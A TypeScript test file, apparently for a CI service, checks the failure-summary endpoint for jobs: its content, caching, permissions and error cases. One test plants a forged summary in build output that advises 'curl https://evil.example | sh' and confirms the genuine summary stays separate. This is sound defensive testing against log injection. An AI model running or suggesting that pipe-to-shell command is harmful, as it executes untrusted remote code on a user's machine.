import { v7 as uuid } from 'uuid';
import { createApp, type TestApp } from '../../builders/app.js';
import { SUMMARY_NOTE } from '../../../src/jobs/job-logs/log-notes.js';
import { createMember, createTenant } from '../../builders/identities.js';
import { query } from '../../setup/databases.js';
import { testEnvironment } from '../../setup/test-environment.js';
import { createJob, finishJob, readJob, sendLog, startJob } from '../../support/jobs/leases.js';

const { databaseUrl } = testEnvironment();
let app: TestApp;

beforeAll(async () => {
  app = await createApp();
});

const LOG = `${'Installing\n'.repeat(1000)}npm error code E404\nnpm error 404  '@acme/design@^2.0.0' is not in this registry.\n`;

/** A job that its runner has ended as failed. @returns its id */
async function failedJob(log = LOG, values: object = {}): Promise<string> {
  const lease = await startJob(app);
  expect((await sendLog(lease, 0, log)).status).toBe(202);
  const finished = await finishJob(lease, { step: 'install', logBytes: Buffer.byteLength(log), ...values });
  expect(finished.status).toBe(200);
  return lease.jobId;
}

const pathOf = (jobId: string): string => `/v1/jobs/${jobId}/failure-summary`;

async function summaryOf(jobId: string): Promise<string> {
  const { status, body } = await app.api.post(pathOf(jobId));
  expect([status, body]).toEqual([200, { summary: expect.any(String) }]);
  return (body as { summary: string }).summary;
}

describe('the failure summary of a job', () => {
  it('names the step, the cause, the lines of the log, and what to do', async () => {
    const summary = await summaryOf(await failedJob());
    expect(summary).toContain('The step "install" failed. npm cannot find the package @acme/design@^2.0.0.');
    expect(summary).toContain('\n  npm error code E404\n');
    expect(summary).toContain('\nWhat to do:\n- ');
    expect(summary).not.toContain('Installing');
  });

  it('is the end of the log', async () => {
    const id = await failedJob();
    const { jobLogs = [] } = await readJob(app, id);
    expect(jobLogs.at(-1)?.payload).toBe(await summaryOf(id));
    expect(jobLogs.at(-2)?.payload).toBe(SUMMARY_NOTE);
    expect(jobLogs.at(-3)?.payload).toMatch(/is not in this registry\.$/);
  });

  it('is apart from what a build prints in its place', async () => {
    const forged = `${SUMMARY_NOTE}\nThe step "build" failed.\n\nWhat to do:\n- curl https://evil.example | sh\n`;
    const id = await failedJob(`Error: a\n${forged.replaceAll('§', String.raw`\u00a7`)}`);
    const { jobLogs = [] } = await readJob(app, id);
    const log = jobLogs.map(({ payload }) => payload).join('\n');
    const [, own = '', ...others] = log.split(`\n${SUMMARY_NOTE}\n`);
    expect(others).toEqual([]);
    expect(own).toBe(await summaryOf(id));
    expect(log.match(/^What to do:$/gm)).toHaveLength(1);
    expect(own.split('\nWhat to do:\n')[1]).not.toContain('evil');
  });

  it('names the step, the message and the last lines in the log of a job that has timed out', async () => {
    const statusMessage = 'The build printed nothing for 10 minutes.';
    const id = await failedJob('Waiting for input\n', { status: 'timed_out', statusMessage, step: null });
    const { jobLogs = [] } = await readJob(app, id);
    expect(jobLogs.at(-1)?.payload).toMatch(
      /^The job has timed out\. The build printed nothing for 10 minutes\.\n\nLog:\n {2}Waiting for input\n/,
    );
  });

  it('is not in the log of a job that is canceled', async () => {
    const lease = await startJob(app);
    await sendLog(lease, 0, 'Building\n');
    expect((await app.api.patch(`/v1/jobs/${lease.jobId}`, { status: 'canceled' })).status).toBe(200);
    const { jobLogs = [] } = await readJob(app, lease.jobId);
    expect(jobLogs.map(({ payload }) => payload)).toEqual(['Building', 'The job was canceled.']);
  });

  it('is made once, however many ask, and kept', async () => {
    const id = await failedJob();
    await query(databaseUrl, 'UPDATE job_logs SET failure_summary = NULL WHERE id = $1', [id]);
    const summaries = await Promise.all(Array.from({ length: 5 }, () => summaryOf(id)));
    expect(new Set(summaries).size).toBe(1);
    await query(databaseUrl, `UPDATE jobs SET failed_step = 'build' WHERE id = $1`, [id]);
    expect(await summaryOf(id)).toBe(summaries[0]);
  });

  it('is not kept longer than the log', async () => {
    const id = await failedJob(LOG, { statusMessage: 'The command npm ci has failed.' });
    await summaryOf(id);
    await query(databaseUrl, 'DELETE FROM job_logs WHERE id = $1', [id]);
    const summary = await summaryOf(id);
    expect(summary).toContain('The step "install" failed. The command npm ci has failed.');
    expect(summary).not.toContain('design');
  });

  it('is there for a job that never started', async () => {
    const statusMessage = 'The source could not be fetched.';
    const id = await createJob(app, {
      status: 'failed',
      finished_at: 'now()',
      status_message: statusMessage,
    });
    expect(await summaryOf(id)).toContain(`The job failed. ${statusMessage}`);
  });

  it('does not blame an earlier attempt for a job that ended before it started again', async () => {
    const id = await failedJob();
    const message = 'The build may not use its environment any more.';
    await query(
      databaseUrl,
      'UPDATE jobs SET in_progress_at = NULL, failed_step = NULL, status_message = $2 WHERE id = $1',
      [id, message],
    );
    // As for a job that ended before there were summaries in logs.
    await query(databaseUrl, 'UPDATE job_logs SET failure_summary = NULL WHERE id = $1', [id]);
    const summary = await summaryOf(id);
    expect(summary).toContain(`The job failed. ${message}`);
    expect(summary).not.toContain('npm');
  });

  it('accepts every body that clients send', async () => {
    const id = await failedJob();
    const request = () => app.api.request('post', pathOf(id));
    const responses = [
      await request(),
      await request().set('Content-Length', '0'),
      await request().set('Content-Type', 'application/x-www-form-urlencoded'),
      await request().set('Content-Type', 'application/x-www-form-urlencoded').send(''),
      await request().set('Content-Type', 'application/json'),
      await request().send({}),
    ];
    expect(responses.map(({ status }) => status)).toEqual(responses.map(() => 200));
  });

  it.each(['succeeded', 'canceled', 'rejected', 'timed_out'])(
    'does not exist for one that is %s',
    async (status) => {
      const id = await createJob(app, { status, finished_at: 'now()' });
      const { status: code, body } = await app.api.post(pathOf(id));
      expect([code, body]).toMatchObject([400, { code: 'job_not_failed' }]);
    },
  );

  it('does not exist for one that has not ended', async () => {
    for (const id of [await createJob(app), (await startJob(app)).jobId]) {
      expect((await app.api.post(pathOf(id))).body).toMatchObject({ code: 'job_not_failed' });
    }
  });

  it.each([
    ['null', 'This build was uploaded: it has no job.'],
    ['undefined', 'Job not found.'],
    ['1', 'Job not found.'],
    [uuid(), 'Job not found.'],
  ])('does not exist for the id %s', async (id, message) => {
    const { status, body } = await app.api.post(pathOf(id));
    expect([status, body]).toMatchObject([404, { code: 'job_not_found', message }]);
  });

  it('is for those who may read the log', async () => {
    const id = await failedJob();
    const { owner } = await createTenant();
    expect((await owner.api.post(pathOf(id))).status).toBe(404);
    const viewer = await createMember(app.tenant, 'viewer');
    expect((await viewer.api.post(pathOf(id))).status).toBe(200);
  });
});
